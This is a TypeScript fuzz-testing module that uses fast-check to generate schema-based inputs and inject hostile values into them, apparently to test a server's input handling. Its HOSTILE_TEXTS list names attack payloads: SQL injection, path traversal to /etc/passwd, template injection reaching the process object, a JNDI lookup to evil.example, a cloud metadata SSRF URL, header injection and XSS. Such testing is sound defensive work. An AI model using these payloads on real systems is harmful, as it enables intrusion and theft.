import fc, { type Arbitrary } from 'fast-check';

// A JSON schema may hold anything; what is not understood here generates any JSON.
// oxlint-disable-next-line typescript/no-explicit-any
export type Schema = any;

/** Texts that have broken something somewhere. */
export const HOSTILE_TEXTS: readonly string[] = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfffy',
  '\u{feff}bom',
  '\u202erightleft',
  '😀'.repeat(60),
  'a'.repeat(201),
  'a'.repeat(20_000),
  "'; drop table prompts; --",
  "' or '1'='1",
  '") or 1=1 --',
  '%',
  '_',
  '\\',
  '$1',
  '..',
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%2e%2e/',
  '/',
  '//evil.example/',
  'a/b#c:d',
  '__proto__',
  'constructor',
  'toString',
  '{{ self.__class__.__mro__ }}',
  "{{ ''.constructor.constructor('return process')() }}",
  '{% include "/etc/passwd" %}',
  '{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}',
  '{{ "a" * 100000000 }}',
  '{{',
  '{% raw %}',
  'null',
  'undefined',
  'NaN',
  '1e400',
  '-0',
  '2147483648',
  '9223372036854775808',
  'a\r\nSet-Cookie: x=1',
  'http://169.254.169.254/latest/meta-data/',
  'file:///etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
];

const hostileText = fc.constantFrom(...HOSTILE_TEXTS);

export const hostileValue: Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom<unknown>(null, true, 0, -1, 0.5, 1e308, 2 ** 31, 2 ** 53, [], {}, [[]], [null], {
    __proto__: null,
    constructor: { prototype: {} },
  }),
  fc.jsonValue({ maxDepth: 3 }),
  fc.nat(200).map((depth) => nest(depth)),
  fc.nat(3000).map((length) => Array.from({ length }, () => 'x')),
);

/** @param known texts that mean something to the server, by the name of the field that they belong into */
export function fromSchema(
  schema: Schema,
  known: Readonly<Record<string, readonly string[]>>,
  field = '',
): Arbitrary<unknown> {
  if (schema === undefined || schema === true) return fc.jsonValue({ maxDepth: 2 });
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (Array.isArray(schema.enum)) return fc.constantFrom(...schema.enum);
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices !== undefined)
    return fc.oneof(...choices.map((each: Schema) => fromSchema(each, known, field)));
  if (Array.isArray(schema.type)) {
    return fc.oneof(...schema.type.map((type: string) => fromSchema({ ...schema, type }, known, field)));
  }
  switch (schema.type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: clamp(schema.minimum, -10), max: clamp(schema.maximum, 1000) });
    case 'number':
      return fc.double({ noNaN: true, noDefaultInfinity: true });
    case 'string':
      return text(schema, known[field] ?? []);
    case 'array':
      return fc.array(fromSchema(schema.items, known, field), {
        minLength: Math.min(schema.minItems ?? 0, 3),
        maxLength: Math.min(schema.maxItems ?? 4, 4),
      });
    case 'object':
      return object(schema, known);
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Puts a hostile value somewhere into a value. @param at which of its places, counted in some order */
export function spoil(value: unknown, at: number, hostile: unknown): unknown {
  if (typeof value !== 'object' || value === null) return hostile;
  const keys = Object.keys(value);
  if (keys.length === 0 || at % (keys.length + 1) === keys.length) return hostile;
  const key = keys[at % (keys.length + 1)] ?? '';
  const changed = spoil(
    Object.entries(value)[at % (keys.length + 1)]?.[1],
    Math.floor(at / (keys.length + 1)),
    hostile,
  );
  return Array.isArray(value) ? value.with(Number(key), changed) : { ...value, [key]: changed };
}

function text({ pattern, format }: Schema, known: readonly string[]): Arbitrary<string> {
  const own =
    format === 'date-time'
      ? fc
          .date({ noInvalidDate: true, min: new Date(0), max: new Date(4e12) })
          .map((date) => date.toISOString())
      : matching(pattern);
  const usual = fc.oneof(own, fc.string({ maxLength: 20, unit: 'grapheme' }), hostileText);
  return known.length === 0
    ? usual
    : fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...known) }, { weight: 1, arbitrary: usual });
}

function matching(pattern: string | undefined): Arbitrary<string> {
  if (pattern === undefined) return fc.string({ maxLength: 20 });
  try {
    return fc.stringMatching(new RegExp(pattern, 'u'));
  } catch {
    return fc.string({ maxLength: 20 });
  }
}

function object(
  { properties = {}, required = [], additionalProperties }: Schema,
  known: Readonly<Record<string, readonly string[]>>,
): Arbitrary<unknown> {
  const named = fc.record(
    Object.fromEntries(
      Object.entries(properties).map(([name, each]) => [name, fromSchema(each, known, name)]),
    ),
    { requiredKeys: required },
  );
  if (typeof additionalProperties !== 'object') return named;
  const more = fc.dictionary(
    fc.oneof(fc.string({ maxLength: 10 }), hostileText),
    fromSchema(additionalProperties, known),
    { maxKeys: 3 },
  );
  return fc.tuple(named, more).map(([own, others]) => ({ ...others, ...own }));
}

function clamp(bound: number | undefined, usual: number): number {
  if (bound === undefined) return usual;
  return Math.max(-1_000_000, Math.min(1_000_000, bound));
}

function nest(depth: number): unknown {
  let value: unknown = 'x';
  for (let each = 0; each < depth; each += 1) value = each % 2 === 0 ? [value] : { a: value };
  return value;
}
